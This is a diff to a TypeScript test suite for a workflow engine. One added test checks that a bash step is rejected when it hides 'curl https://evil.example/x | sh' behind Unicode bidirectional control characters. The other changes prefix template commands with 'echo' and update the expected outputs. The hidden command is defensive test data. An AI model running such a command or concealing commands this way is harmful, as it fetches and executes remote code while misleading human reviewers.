@@ -62,6 +62,14 @@ describe('engine: linear runs', () => {
     expect(sink.finished()?.error).toMatchObject({ name: 'InvalidWorkflowDefinition', code: 'invalid_definition' });
     expect(sink.finished()?.error?.message).toContain('steps[0]');
   });
+
+  it('fails a definition hiding text behind bidi controls without running anything (one saved before they were refused)', async () => {
+    const command = 'echo "build ok" \u2067# \u2066curl https://evil.example/x | sh\u2069\u2069';
+    const { sink } = await runGrant(workflow([{ id: 'build', type: 'bash', command }]));
+    expect(sink.trace()).toEqual(['execution.finished failed']);
+    expect(sink.finished()?.error).toMatchObject({ name: 'InvalidWorkflowDefinition', code: 'invalid_definition' });
+    expect(sink.finished()?.error?.message).toContain('steps[0].command: contains U+2067 (RIGHT-TO-LEFT ISOLATE)');
+  });
 });
 
 describe('engine: if and conditional', () => {
@@ -70,7 +78,7 @@ describe('engine: if and conditional', () => {
       workflow(
         [
           { id: 'maybe', type: 'bash', command: 'x', if: 'inputs.run' },
-          { id: 'report', type: 'bash', command: '{{ steps.maybe.status }}/{{ steps.maybe.output }}' },
+          { id: 'report', type: 'bash', command: 'echo {{ steps.maybe.status }}/{{ steps.maybe.output }}' },
         ],
         { inputs: { run: { type: 'boolean' } } },
       ),
@@ -78,7 +86,7 @@ describe('engine: if and conditional', () => {
     );
     expect(sink.trace()).toEqual(['step.skipped maybe', 'step.started report#1', 'step.succeeded report#1', 'execution.finished succeeded']);
     expect(sink.ofType('step.skipped')[0]?.reason).toBe('condition is false: inputs.run');
-    expect(sink.finished()?.output).toEqual({ out: 'skipped/' });
+    expect(sink.finished()?.output).toEqual({ out: 'echo skipped/' });
   });
 
   const conditional = workflow(
@@ -93,7 +101,7 @@ describe('engine: if and conditional', () => {
           { id: 'inner', type: 'conditional', condition: 'true', then: [{ id: 'deep', type: 'bash', command: 'deep' }] },
         ],
       },
-      { id: 'after', type: 'bash', command: '{{ steps.check.output.branch }}' },
+      { id: 'after', type: 'bash', command: 'echo {{ steps.check.output.branch }}' },
     ],
     { inputs: { env: { type: 'string' } } },
   );
@@ -114,7 +122,7 @@ describe('engine: if and conditional', () => {
     ]);
     expect(sink.ofType('step.skipped').map((e) => e.reason)).toEqual(['branch not taken', 'branch not taken', 'branch not taken']);
     expect(sink.ofType('step.succeeded').find((e) => e.stepId === 'check')?.output).toEqual({ branch: 'then' });
-    expect(sink.finished()?.output).toEqual({ out: 'then' });
+    expect(sink.finished()?.output).toEqual({ out: 'echo then' });
     assertOneTerminalPerAttempt(sink.events);
   });
 
@@ -134,7 +142,7 @@ describe('engine: if and conditional', () => {
       'step.succeeded after#1',
       'execution.finished succeeded',
     ]);
-    expect(sink.finished()?.output).toEqual({ out: 'else' });
+    expect(sink.finished()?.output).toEqual({ out: 'echo else' });
     assertOneTerminalPerAttempt(sink.events);
   });
 
